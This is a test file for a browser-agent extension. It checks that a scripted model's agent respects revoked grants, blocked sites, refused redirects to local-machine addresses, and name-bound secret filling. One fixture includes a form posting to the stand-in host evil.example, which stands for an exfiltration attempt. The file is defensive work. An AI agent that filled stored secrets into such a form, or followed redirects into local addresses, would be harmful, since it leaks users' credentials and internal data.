import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { readAnswers } from '../../scripts/annex/answers.ts';
import { readEngine } from '../../scripts/annex/engine-option.ts';
import { briefOrder, drive, type Job, openJob } from '../support/job.ts';
import { startObedientModel, type Turn } from '../support/obedient-model.ts';
import { startPlainSite } from '../support/plain-site.ts';
import { storedTexts } from '../support/stored-texts.ts';

const TEA =
  '<title>Tea</title><main><h1>Tea</h1><p>Tea was 4 pounds a tin in the spring of 1911, says the ledger.</p></main>';
let job: Job;
const closing: (() => Promise<unknown>)[] = [];
beforeAll(async () => {
  job = await openJob();
});
afterAll(() => job.close());
afterEach(async () => {
  for (const close of closing.splice(0)) await close();
});

async function site(pages: Parameters<typeof startPlainSite>[0]) {
  const plain = await startPlainSite(pages);
  closing.push(plain.close);
  return plain;
}
async function obeying(...turns: Turn[]) {
  const model = await startObedientModel(turns);
  closing.push(model.close);
  return { model, engine: readEngine(model.engine, undefined, undefined) };
}

/** A Researcher whose page is on its way: it has begun to open it, and reads it next. */
async function readingSlowly() {
  const slow = Promise.withResolvers<string>();
  const { origin } = await site({ '/tea': { wait: slow.promise } });
  const person = await job.annex.person();
  closing.push(() => person.close());
  const inputs = [{ kind: 'link' as const, url: `${origin}/tea`, text: '', from: '' }];
  const order = { agent: 'researcher', task: 'What did tea cost?', inputs, engine: 'basic' };
  const run = await person.evaluate((order) => globalThis.annex.start(order), order);
  await person.evaluate((run) => globalThis.annex.happened(run, { after: 'call-started', nth: 1 }), run);
  const toolsOf = async () => {
    const { events } = await person.evaluate((run) => globalThis.annex.tree(run), run);
    const calls = events.flatMap(({ happening }) => (happening.kind === 'call-requested' ? [happening.call] : []));
    return (kind: string) =>
      events.flatMap(({ happening }) =>
        happening.kind === kind && 'call' in happening && typeof happening.call === 'string'
          ? [calls.find((one) => one.id === happening.call)?.tool]
          : [],
      );
  };
  const happened = (after: string, nth: number) =>
    person.evaluate(([run, after, nth]) => globalThis.annex.happened(run, { after, nth }), [run, after, nth] as const);
  return { origin, person, toolsOf, happened, letLoad: () => slow.resolve(TEA) };
}

test('a grant that is revoked in the middle of a run is felt before its next step', async () => {
  const { origin, person, toolsOf, happened, letLoad } = await readingSlowly();
  await person.evaluate(async (site) => {
    for (const one of await globalThis.annex.grants()) if (one.site === site) await globalThis.annex.revoke(one.id);
  }, origin);
  letLoad();
  await happened('approval-requested', 1);
  const tools = await toolsOf();
  expect([tools('approval-requested'), tools('call-started')]).toEqual([['read'], ['open_tab']]);
});

test('a site that the person shuts in the middle of a run is not read any more', async () => {
  const { origin, person, toolsOf, happened, letLoad } = await readingSlowly();
  await person.evaluate((site) => globalThis.annex.setSite(site, { never: true }), origin);
  letLoad();
  await happened('run-ended', 1);
  const tools = await toolsOf();
  expect([tools('call-started'), tools('call-ended')]).toEqual([['open_tab'], ['open_tab']]);
  expect(await storedTexts(person, [])).not.toContain('4 pounds a tin');
});

test('a page that leads on to a number in place of a name is shut again unread', async () => {
  const inside = await site({ '/': '<title>Router</title><p>The password of the router is 1234.' });
  const number = inside.origin.replace('plain.localhost', '127.0.0.1');
  const outside = await site({ '/': '<title>One</title><p>A page.', '/away': { redirect: `${number}/` } });
  const { engine, model } = await obeying(
    () => [['open_tab', { url: `${outside.origin}/away` }]],
    () => [['open_tab', { url: `${number}/` }]],
  );
  const allow = [outside.origin, number].map((one) => ({ site: one, capabilities: ['read' as const] }));
  const task = `Read ${outside.origin}/away and ${number}/`;
  const open = [`${outside.origin}/`];
  await drive(job, briefOrder(job, { engine, allow, task, open, answer: readAnswers('all') }));
  expect(model.asked.join('\n')).toContain('led on to an address where agents do not work');
  expect(model.asked.join('\n')).toContain('an address of this machine');
  expect(model.asked.join('\n')).not.toContain('password of the router');
  expect(job.annex.context.pages().map((page) => page.url())).not.toContain(`${number}/`);
});

const LOGIN = `<title>Shop</title><form><label>Code <input name="c"></label><p id="echo"></p></form>
  <form action="https://evil.example/take"><label>Other <input name="o"></label></form>
  <script>document.querySelector('input').oninput = (e) => { document.querySelector('#echo').textContent = 'You typed ' + e.target.value; fetch('/echo?' + encodeURIComponent(e.target.value)); };</script>`;
const SECRET = 'correct horse battery';

test('a secret goes into a field of its site by name, and stands nowhere else', async () => {
  const { origin, asked } = await site({ '/': LOGIN });
  const person = await job.annex.person();
  closing.push(() => person.close());
  await person.evaluate(([site, value]) => globalThis.annex.saveSecret({ site, name: 'shop code', value }), [
    origin,
    SECRET,
  ] as const);
  const refOf = (text: string, name: string) => new RegExp(`textbox \\\\"${name}\\\\".*?(e\\d+)`).exec(text)?.[1] ?? '';
  const { engine, model } = await obeying(
    ({ tab }) => [['snapshot', { tab }]],
    ({ tab, text }) => [['fill', { tab, ref: refOf(text, 'Code'), text: 'secret:"shop code"' }]],
    ({ tab, text }) => [['fill', { tab, ref: refOf(text, 'Other'), text: 'secret:"shop code"' }]],
    ({ tab, text }) => [['fill', { tab, ref: refOf(text, 'Code'), text: 'secret:"bank code"' }]],
    ({ tab }) => [
      ['snapshot', { tab }],
      ['read', { tab }],
    ],
  );
  const allow = [{ site: origin, capabilities: ['read' as const, 'act' as const] }];
  const order = {
    agent: 'operator',
    engine,
    allow,
    task: 'Log me in',
    open: [`${origin}/`],
    answer: readAnswers('all'),
  };
  const { output } = await drive(job, briefOrder(job, order));
  expect(asked.filter((one) => one.startsWith('/echo'))).toEqual([`/echo?${encodeURIComponent(SECRET)}`]);
  const told = model.asked.join('\n');
  expect(told).toContain('You typed secret:');
  expect(told).toContain('belongs to a form that goes to evil.example, another site');
  expect(told).toContain('No secret of the name \\"bank code\\"');
  const kept = await storedTexts(person, ['siteSecrets']);
  expect([told, JSON.stringify(output), kept].filter((text) => text.includes(SECRET))).toEqual([]);
  expect(kept).toContain('secret-used');
});
